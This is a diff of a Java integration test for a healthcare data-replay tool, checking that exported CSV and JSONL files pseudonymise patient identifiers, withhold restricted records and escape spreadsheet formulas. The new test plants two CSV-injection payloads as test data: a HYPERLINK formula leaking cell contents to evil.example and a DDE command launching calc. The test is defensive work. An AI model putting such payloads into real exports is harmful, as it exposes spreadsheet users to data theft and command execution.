@@ -65,7 +65,11 @@ class ReplayIT {
     static final String ALICE = TestChanges.patient(1);
     static final String BOB = TestChanges.patient(2);
     static final String CAROL = TestChanges.patient(3);
-    static final byte[] KEY = "replay-it-key-0123456789abcdef".getBytes(StandardCharsets.UTF_8);
+    static final byte[] KEY = new byte[32];
+
+    static {
+        new java.security.SecureRandom().nextBytes(KEY);
+    }
 
     @TempDir
     Path dir;
@@ -190,13 +194,14 @@ class ReplayIT {
                     assertThat(seen).containsExactlyInAnyOrder(pseudonyms.nhsNumber(BOB), pseudonyms.nhsNumber(CAROL));
                 }
                 try (ResultSet r = sql.executeQuery("SELECT min(occurred_at), max(kafka_timestamp), typeof(min(occurred_at)), "
-                        + "count(*) FILTER (WHERE body::VARCHAR LIKE '%Smith%' OR body::VARCHAR LIKE '%SE1%' "
+                        + "count(*) FILTER (WHERE body::VARCHAR LIKE '%Smith%' OR body::VARCHAR LIKE '%7EH%' "
+                        + "OR body::VARCHAR LIKE '%1950%' "
                         + "OR body::VARCHAR LIKE '%" + BOB + "%' OR local_id_value LIKE '%" + BOB + "%') FROM " + table)) {
                     r.next();
                     assertThat(r.getObject(1, java.time.OffsetDateTime.class).toInstant()).isEqualTo(inside);
                     assertThat(r.getObject(2, java.time.OffsetDateTime.class).toInstant()).isBefore(TO);
                     assertThat(r.getString(3)).isEqualTo("TIMESTAMP WITH TIME ZONE");
-                    assertThat(r.getLong(4)).as("names, postcodes and raw identifiers left").isZero();
+                    assertThat(r.getLong(4)).as("names, full postcodes, birth dates and raw identifiers left").isZero();
                 }
                 try (ResultSet r = sql.executeQuery("SELECT json_extract_string(body, '$.nhsNumber') FROM " + table
                         + " WHERE event_type = 'patient-identity' AND nhs_number = '" + pseudonyms.nhsNumber(BOB) + "'")) {
@@ -249,7 +254,7 @@ class ReplayIT {
             Path out = dir.resolve("opt-out.jsonl");
             ReplaySummary summary = new Replay(Map.of("bootstrap.servers", broker.bootstrapServers()), topics)
                     .run(ReplayOptions.of(List.of("care.admissions"), FROM, TO, ReplayFormat.JSONL, out)
-                            .excludingOptedOut(), p -> { });
+                            .withIdentifiers().excludingOptedOut(), p -> { });
 
             // then only Carol's admission is left: the old number's, the survivor's and the linked local one are not
             assertThat(summary.optedOut()).isEqualTo(3);
@@ -281,9 +286,10 @@ class ReplayIT {
 
             Path jsonl = dir.resolve("changes.jsonl");
             ReplaySummary summary = replay.run(ReplayOptions.of(List.of(CareTopics.TIMELINE_CHANGES), FROM, TO,
-                    ReplayFormat.JSONL, jsonl), p -> { });
+                    ReplayFormat.JSONL, jsonl).withIdentifiers(), p -> { });
             Path csv = dir.resolve("changes.csv");
-            replay.run(ReplayOptions.of(List.of(CareTopics.TIMELINE_CHANGES), FROM, TO, ReplayFormat.CSV, csv), p -> { });
+            replay.run(ReplayOptions.of(List.of(CareTopics.TIMELINE_CHANGES), FROM, TO, ReplayFormat.CSV, csv)
+                    .withIdentifiers(), p -> { });
 
             assertThat(summary.written()).isEqualTo(5);
             assertThat(summary.byEventType()).containsOnly(Map.entry("referral", 5L));
@@ -293,6 +299,75 @@ class ReplayIT {
             assertThat(rows).hasSize(6);
             assertThat(rows.get(1)).contains("care.timeline-changes", "referral", "ADDED", CAROL);
             assertThat(Set.copyOf(rows.subList(1, 6)).size()).isEqualTo(5);
+        }
+    }
+
+    /**
+     * What an analyst gets from {@code caretrail replay} by default: pseudonymised rows, no RESTRICTED
+     * record, no identifier left in clear anywhere in the file (the issue's case: an identity event
+     * whose subject id carried the hospital number), and CSV cells a spreadsheet will not run.
+     */
+    @Test
+    void theReplayCommandWritesPseudonymisedCsvWithoutRestrictedRecordsOrIdentifiersInClear() throws Exception {
+        Topics topics = new Topics(new RestSchemaRegistry(RealInfrastructure.registryUrl()));
+        try (EmbeddedKafkaBroker broker = RealInfrastructure.newBroker();
+                KafkaProducer<String, byte[]> producer = producer(broker.bootstrapServers())) {
+            Instant inside = FROM.plusSeconds(3600);
+            PatientIdentity identity = PatientIdentity.newBuilder(identity(BOB, inside))
+                    .setLocalId(LocalIdentifier.newBuilder().setSystem("RX1-MRN").setValue("MRN-SECRET-4711").build())
+                    .build();
+            identity.getHeader().setSubjectId("identity/RX1-MRN|MRN-SECRET-4711");
+            publish(producer, topics, identity, inside);
+            Admission normal = admission(BOB, inside.plusSeconds(10));
+            normal.setConsultant("Dr Ada Synthetic");
+            normal.setWard("=HYPERLINK(\"http://evil.example/?\"&A1,\"Ward 7\")");
+            normal.getHeader().getSource().setName("@SUM(1+1)*cmd|' /C calc'!A0");
+            publish(producer, topics, normal, inside.plusSeconds(10));
+            Admission restricted = admission(BOB, inside.plusSeconds(20));
+            restricted.getHeader().setSensitivity(Sensitivity.RESTRICTED);
+            restricted.setWard("Sexual Health Clinic 3");
+            publish(producer, topics, restricted, inside.plusSeconds(20));
+            producer.flush();
+
+            Path key = Files.write(dir.resolve("replay.key"), KEY);
+            Path csv = dir.resolve("analyst.csv");
+            java.io.StringWriter out = new java.io.StringWriter();
+            picocli.CommandLine cli = org.caretrail.deploy.cli.CareTrail.commandLine();
+            cli.setOut(new java.io.PrintWriter(out, true));
+            cli.setErr(new java.io.PrintWriter(new java.io.StringWriter(), true));
+            int exit = cli.execute("replay", "--topics", "care.admissions,care.patient-identities", "--from",
+                    FROM.toString(), "--to", TO.toString(), "--format", "csv", "--out", csv.toString(), "--key-file",
+                    key.toString(), "--bootstrap-servers", broker.bootstrapServers(), "--schema-registry-url",
+                    RealInfrastructure.registryUrl());
+
+            assertThat(exit).isZero();
+            assertThat(out.toString()).contains("Replayed 2 event(s)", "1 RESTRICTED withheld",
+                    "Identifiers: pseudonymised");
+            String file = Files.readString(csv);
+            Pseudonymiser pseudonyms = new Pseudonymiser(KEY);
+            assertThat(file).doesNotContain("MRN-SECRET-4711", BOB, "M" + BOB, "Smith", "Robert", "7EH",
+                    "1950-03-01", "Dr Ada Synthetic", "Sexual Health Clinic");
+            assertThat(file).contains(pseudonyms.nhsNumber(BOB), pseudonyms.subjectId("identity/RX1-MRN|MRN-SECRET-4711"),
+                    pseudonyms.localId("RX1-MRN", "MRN-SECRET-4711"));
+            assertThat(file).contains(",'@SUM(1+1)*cmd|' /C calc'!A0,").doesNotContain(",@SUM");
+            try (Connection duck = DriverManager.getConnection("jdbc:duckdb:"); Statement sql = duck.createStatement();
+                    ResultSet r = sql.executeQuery("SELECT json_extract_string(body, '$.ageBand'), "
+                            + "json_extract_string(body, '$.postcode') FROM read_csv('" + csv + "') "
+                            + "WHERE event_type = 'patient-identity'")) {
+                assertThat(r.next()).isTrue();
+                assertThat(r.getString(1)).isEqualTo("75-79");
+                assertThat(r.getString(2)).isEqualTo("SE1");
+            }
+
+            // the operator may include RESTRICTED records, still pseudonymised
+            Path withRestricted = dir.resolve("restricted.jsonl");
+            ReplaySummary summary = new Replay(Map.of("bootstrap.servers", broker.bootstrapServers()), topics)
+                    .run(ReplayOptions.of(List.of("care.admissions"), FROM, TO, ReplayFormat.JSONL, withRestricted)
+                            .pseudonymised(KEY).includingRestricted(), p -> { });
+            assertThat(summary.written()).isEqualTo(2);
+            assertThat(summary.restrictedWithheld()).isZero();
+            assertThat(Files.readString(withRestricted)).contains("Sexual Health Clinic 3", "\"RESTRICTED\"")
+                    .doesNotContain(BOB);
         }
     }
 }
